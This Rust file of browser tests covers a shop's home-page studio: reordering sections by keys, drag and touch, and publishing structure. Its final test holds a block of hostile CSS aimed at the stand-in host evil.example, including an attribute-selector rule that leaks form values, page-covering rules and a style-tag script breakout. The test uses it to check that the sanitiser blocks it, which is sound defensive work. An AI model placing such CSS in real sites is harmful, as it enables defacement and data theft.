//! Putting a home page together in a browser: by pointer and by keyboard alone, with script and without.

use crate::desk::sign_in;
use crate::tab::{NARROW, Shopper, Tab, WIDE};
use crate::walk::Walk;
use everbud_tests::desk::SignedIn;
use everbud_tests::lent::{Lent, lend};
use everbud_tests::picture::{OnDisk, png};
use everbud_tests::wait;
use serde_json::{Value, json};
use std::time::Duration;

/// What is published is at the shop within this.
const SHOWN: Duration = Duration::from_secs(5);

/// The names of the sections, in their order.
#[track_caller]
fn order(tab: &Tab) -> Vec<String> {
    tab.value("[...document.querySelectorAll('#sections form')].map((form) => form.dataset.name)")
}

#[track_caller]
fn until_order(tab: &Tab, expect: &[&str]) {
    tab.until("the order of the sections", || order(tab), |order| *order == expect);
}

#[track_caller]
fn at_the_home_page(slug: &str, tab: &Tab) {
    sign_in(tab, slug);
    tab.open("/desk/studio");
    tab.click("#home > summary");
}

/// Does something with the sections of a shop that chose nothing, with script: the page is not left meanwhile, and what was
/// done is thrown away in the end.
#[track_caller]
fn at_the_usual_sections(work: impl FnOnce(&Tab)) {
    let lent = lend("saltmarsh");
    let owner = Shopper::at(&lent.shop, WIDE);
    let tab = owner.tab();
    at_the_home_page("saltmarsh", &tab);
    tab.awakes();
    tab.mark();
    work(&tab);
    tab.has_stayed();
    tab.click("#draft .plain");
    tab.sees_no("#draft");
}

#[test]
fn sections_are_moved_by_keys_and_by_pointer_and_their_new_place_is_said() {
    at_the_usual_sections(|tab| {
        tab.act("focus", &json!(["#section-2 button[value='section/up']"]));
        tab.press("Enter");
        until_order(tab, &["Specials", "A few of everything", "Shelves"]);
        tab.sees("#home [role=status]:has-text(\"A few of everything is now 2 of 3.\")");
        // The focus went along, so the same key moves it on.
        let focused = "document.activeElement.closest('li')?.id + ' ' + document.activeElement.value";
        tab.until("the focus on the moved button", || tab.value::<String>(focused), |at| at == "section-1 section/up");
        tab.press("Enter");
        until_order(tab, &["A few of everything", "Specials", "Shelves"]);
        // And by pointer, back to where it was.
        for (at, expect) in [
            ("0", ["Specials", "A few of everything", "Shelves"]),
            ("1", ["Specials", "Shelves", "A few of everything"]),
        ] {
            tab.click(&format!("#section-{at} button[value='section/down']"));
            until_order(tab, &expect);
        }
        tab.sees("#home [role=status]:has-text(\"A few of everything is now 3 of 3.\")");
        tab.sees_no("#draft");
        // What is typed is kept by whichever button, and the preview shows it.
        tab.fill("#heading-0", "Cheaper today");
        tab.click("#section-0 button[value='section/down']");
        until_order(tab, &["Shelves", "Cheaper today", "A few of everything"]);
        tab.sees("#draft:has-text(\"Home page from\")");
        tab.sees(".phone iframe >> internal:control=enter-frame >> h2:has-text(\"Cheaper today\")");
    });
}

#[test]
fn a_section_is_dragged_to_the_place_of_another_and_its_new_place_is_said() {
    at_the_usual_sections(|tab| {
        let drag = |from: u32, to: &str, stands: &str| {
            tab.act("hover", &json!([format!("#section-{from} .grip")]));
            tab.act("mouse.down", &json!([]));
            tab.sees(&format!("#section-{from}[data-drag=dragged]"));
            tab.act("hover", &json!([to]));
            let marked = "[...document.querySelectorAll('[data-drag=over]')].map((it) => it.id).join()";
            tab.until("the place to be marked", || tab.value::<String>(marked), |marked| marked == stands);
            tab.act("mouse.up", &json!([]));
            tab.sees_no("[data-drag]");
        };
        drag(2, "#section-0 strong", "section-0");
        until_order(tab, &["A few of everything", "Specials", "Shelves"]);
        tab.sees("#home [role=status]:has-text(\"A few of everything is now 1 of 3.\")");
        // What was typed goes along, and a place further down is the one below.
        tab.fill("#heading-0", "A bit of it all");
        drag(0, "#section-1 strong", "section-1");
        until_order(tab, &["Specials", "A bit of it all", "Shelves"]);
        tab.sees("#home [role=status]:has-text(\"A few of everything is now 2 of 3.\")");
        drag(1, "#section-2 strong", "section-2");
        until_order(tab, &["Specials", "Shelves", "A bit of it all"]);
        tab.sees(".phone iframe >> internal:control=enter-frame >> h2:has-text(\"A bit of it all\")");
        // Let go of where no section is, nothing comes of it, nor of a pointer that took hold of nothing.
        drag(0, "#home > summary", "");
        tab.act("hover", &json!(["#section-0 strong"]));
        tab.act("mouse.down", &json!([]));
        tab.act("hover", &json!(["#section-2 strong"]));
        tab.act("mouse.up", &json!([]));
        drag(1, "#section-0 strong", "section-0");
        until_order(tab, &["Shelves", "Specials", "A bit of it all"]);
        // A finger does the same, and the page does not scroll under it.
        tab.drag_by_finger("#section-1 .grip", "#section-0 strong");
        until_order(tab, &["Specials", "Shelves", "A bit of it all"]);
        tab.sees("#home [role=status]:has-text(\"Specials is now 1 of 3.\")");
    });
}

#[test]
fn without_script_sections_are_moved_by_their_buttons() {
    let lent = lend("copper-finch");
    let owner = Shopper::without_script_at(&lent.shop, NARROW);
    let tab = owner.tab();
    at_the_home_page("copper-finch", &tab);
    tab.sees_no(".grip");
    tab.click("#section-1 button[value='section/up']");
    tab.sees("#draft");
    assert!(tab.text("#draft").contains("to Shelves, Specials, A few of everything"), "{}", tab.text("#draft"));
    // The page opens where the section is.
    tab.sees("#section-0 >> text=Shelves");
    tab.click("#draft .plain");
    tab.sees_no("#draft");
}

/// The parts of the studio about structure, filled and open, and the pages that they make.
#[track_caller]
fn a_structures_pages(slug: &str, window: (u32, u32)) {
    let lent = lend(slug);
    let mut walk = Walk::begin(&lent.shop, window);
    at_the_home_page(slug, &walk.tab);
    walk.tab.awakes();
    for (shows, sections) in [("picks", 4), ("text", 5), ("brands", 6)] {
        walk.tab.act("selectOption", &json!(["#shows", shows]));
        walk.tab.click("#home > .take button");
        walk.tab.sees(&format!("#sections > li:nth-child({sections})"));
    }
    walk.tab.act("selectOption", &json!(["#pick-3", {"index": 1}]));
    walk.tab.click("#section-3 .acts button[value='section/keep']");
    walk.tab.sees("#section-3 .picks li");
    walk.tab.fill("#text-4", "Words of 10,000 letters, or ones from right to left: \u{5e9}\u{5dc}\u{5d5}\u{5dd}.");
    walk.tab.click("#section-4 .acts button[value='section/keep']");
    walk.tab.sees(".phone iframe >> internal:control=enter-frame >> text=Words of 10,000 letters");
    walk.tab.act("selectOption", &json!(["#shows", "image"]));
    walk.tab.click("#home > .take button");
    walk.tab.sees("#sections > li:nth-child(7)");
    let file = OnDisk::new(&format!("{slug}-section.png"), &png(&[(300, [0x1f, 0x6f, 0x5b]), (300, [0xff; 3])], 200));
    walk.tab.act("setInputFiles", &json!(["#file-section-6", file.path()]));
    walk.tab.sees("#chosen:has-text(\"Ready to send\")");
    walk.tab.click("#picture-section-6 button");
    walk.tab.sees("#section-6 img");
    walk.tab.fill("#alt-6", "Our counter");
    walk.tab.click("#section-6 .acts button[value='section/keep']");
    walk.tab.sees(".phone iframe >> internal:control=enter-frame >> .pictured[alt='Our counter']");
    walk.tab.click("#notices > summary");
    walk.tab.click("#notices details:last-child > summary");
    walk.look("sections and notices");
    for part in ["order", "legal-text", "search-text", "redirects", "own-css"] {
        walk.tab.click(&format!("#{part} > summary"));
    }
    walk.look("order, words and addresses");
    walk.tab.act("selectOption", &json!(["#kind-new-notice", "banner"]));
    walk.tab.fill("#words-new-notice", &"Unbreakable".repeat(25));
    walk.tab.click("#notices details:last-child .acts button");
    walk.tab.sees("#draft:has-text(\"Banner\")");
    walk.look("a banner in the draft");
    walk.tab.open("/desk/studio");
    walk.tab.click("#draft .plain");
    walk.tab.sees_no("#draft");
    shoppers_pages(&lent, &mut walk);
    walk.end();
}

/// What shoppers see of it, with names and texts of every length and direction.
#[track_caller]
fn shoppers_pages(lent: &Lent, walk: &mut Walk) {
    let slug = lent.shop.host.split('.').next().unwrap();
    let bearer = format!("Bearer {}", lent.everbud.staff_token(slug));
    let put = |structure: &Value| {
        let headers = [("authorization", bearer.as_str()), ("if-match", "*"), ("content-type", "application/json")];
        let body = json!({"structure": structure}).to_string();
        lent.shop.send("PUT", "/api/v1/staff/settings", &headers, body.as_bytes()).expect(202);
    };
    let long = "Unbreakable".repeat(25);
    let rtl = "\u{202b}\u{5e9}\u{5dc}\u{5d5}\u{5dd} \u{5e2}\u{5d5}\u{5dc}\u{5dd}";
    put(&json!({
        "home": [{"shows": "brands", "heading": long}, {"shows": {"text": format!("## {rtl}\n\n{}", "W".repeat(3_900))}},
            {"shows": "categories", "heading": rtl}, {"shows": "window"}],
        "notices": [{"kind": "banner", "words": long, "more": rtl, "leads_to": "/menu"},
            {"kind": "banner", "words": "Soup!"}, {"kind": "announcement", "words": long, "leads_to": "/menu"}],
        "order": {"categories": ["gear"], "by": "name"},
        "legal": format!("{long}\n\n{rtl}"),
        "css": "h2 { text-transform: uppercase; color: var(--accent-ink) } li { border-radius: 4px }",
    }));
    let page = || lent.shop.get("/").expect(200).body;
    wait::until("it at the shop", SHOWN, page, |page| page.contains("Unbreakable"));
    walk.tab.open("/");
    walk.tab.click(".gate button >> nth=0");
    walk.tab.sees(".banners");
    walk.look("/");
    for path in ["/menu", "/pages/about", "/cart"] {
        walk.open(path);
    }
    put(&json!({}));
    wait::until("it gone", SHOWN, page, |page| !page.contains("Unbreakable"));
}

#[test]
fn at_360_pixels_what_a_shop_puts_together_is_accessible_fits_and_is_without_errors() {
    a_structures_pages("copper-finch", NARROW);
}

#[test]
fn at_1440_pixels_what_a_shop_puts_together_is_accessible_fits_and_is_without_errors() {
    a_structures_pages("saltmarsh", WIDE);
}

/// CSS that tries to load, to cover, to hide and to reach what is not its own, with one rule that is right.
const HOSTILE: &str = r#"
@import url(//evil.example/a.css);
@font-face { font-family: x; src: url(//evil.example/x.woff2) }
h2 { text-decoration: underline }
* { background: url(//evil.example/a.png) !important; position: fixed; inset: 0; z-index: 2147483647 }
* { background: u\72l(//evil.example/b.png); transform: scale(99); margin: -999px; font-size: 9999px }
* { background: image-set("//evil.example/c.png" 1x); box-shadow: 0 0 0 9999px red; width: 400vw }
body, html, :root, .gate, .notice, .top, .foot, .tag { display: none }
body * { display: none }
input[name^="a"] { background: url(//evil.example/?a) }
.own, .site, header { color: transparent }
p::before { content: "Free for everybody"; position: absolute }
@media screen { @media screen { * { opacity: 0 } } .notice { display: none } }
@supports (display: grid) { * { visibility: hidden } }
</style><script>window.hacked = true</script>
p { color: red; } } } } body { display: none } {{{{((((
"#;

#[test]
fn hostile_css_loads_nothing_covers_nothing_and_does_not_leave_its_place() {
    let lent = lend("copper-finch");
    let desk = SignedIn::manager_of(&lent.shop);
    let send = |fields: &[(&str, &str)]| {
        let page = desk.get("/desk/studio").expect(200).body;
        let seen =
            page.split("name=\"seen\" value=\"").nth(1).and_then(|after| after.split('"').next()).unwrap().to_owned();
        desk.post("/desk/studio", &[&[("seen", seen.as_str())], fields].concat()).expect(303);
    };
    let words = |page: &str, id: &str| {
        let field = page.split(&format!("id=\"{id}\"")).nth(1).unwrap().split('>').next().unwrap().to_owned();
        let value =
            field.split("value=\"").nth(1).and_then(|after| after.split('"').next()).unwrap_or_default().to_owned();
        value.replace("&amp;", "&").replace("&quot;", "\"")
    };
    let publish = || {
        let page = desk.get("/desk/studio").expect(200).body;
        let [tagline, phone, announcement] = ["tagline", "phone", "announcement"].map(|id| words(&page, id));
        send(&[("act", "publish"), ("tagline", &tagline), ("phone", &phone), ("announcement", &announcement)]);
    };
    send(&[("act", "discard")]);
    send(&[("act", "css/keep"), ("css", HOSTILE)]);
    publish();
    let theme = || lent.shop.get(&lent.shop.theme()).expect(200).body;
    wait::until("the rule that is right", SHOWN, theme, |css| css.contains("text-decoration:underline"));
    for window in [NARROW, WIDE] {
        let shopper = Shopper::at(&lent.shop, window);
        let tab = shopper.tab();
        tab.open("/");
        // The question for the age stands above everything, and can be answered.
        tab.sees(".gate");
        tab.click(".gate button >> nth=0");
        tab.sees("main.own h2");
        assert_eq!(
            tab.value::<String>("getComputedStyle(document.querySelector('main h2')).textDecorationLine"),
            "underline"
        );
        let seen = "[...document.querySelectorAll('.top .wordmark, .top a[href=\"/cart\"], .foot .fine, main .tag, main h1')] \
                    .every((it) => it.checkVisibility({opacityProperty: true, visibilityProperty: true}))";
        assert!(tab.value::<bool>(seen), "something that is not its own is hidden");
        let inside = "(() => { const own = document.querySelector('.own').getBoundingClientRect(); \
                      return document.elementFromPoint(5, 5).closest('.own') === null && own.width <= innerWidth \
                      && document.documentElement.scrollWidth <= innerWidth; })()";
        assert!(tab.value::<bool>(inside), "something lies over the head, or sticks out");
        let out = "[...document.querySelectorAll('.own *')].filter((it) => ['fixed', 'sticky'] \
                   .includes(getComputedStyle(it).position)).length";
        assert_eq!(tab.value::<u32>(out), 0);
        let loaded =
            "performance.getEntriesByType('resource').map((it) => it.name).filter((it) => !it.startsWith(origin))";
        assert_eq!(tab.value::<Vec<String>>(loaded), Vec::<String>::new());
        assert!(!tab.value::<bool>("Boolean(window.hacked)"));
        // No rule even tried: the policy had nothing to refuse.
        assert!(shopper.troubles().is_empty(), "{:?}", shopper.troubles());
        tab.open("/checkout");
        assert_eq!(tab.value::<u32>("document.querySelectorAll('.own').length"), 0);
    }
    // Staff are told, line by line.
    let page = desk.get("/desk/studio").expect(200).body;
    for why in [
        "only @media is taken",
        "Nothing can be loaded from an address",
        "Attributes cannot be asked for",
        "stands outside",
    ] {
        assert!(page.contains(why), "{why}");
    }
    send(&[("act", "css/keep"), ("css", "")]);
    publish();
    wait::until("it gone", SHOWN, theme, |css| !css.is_empty() && !css.contains("underline"));
}
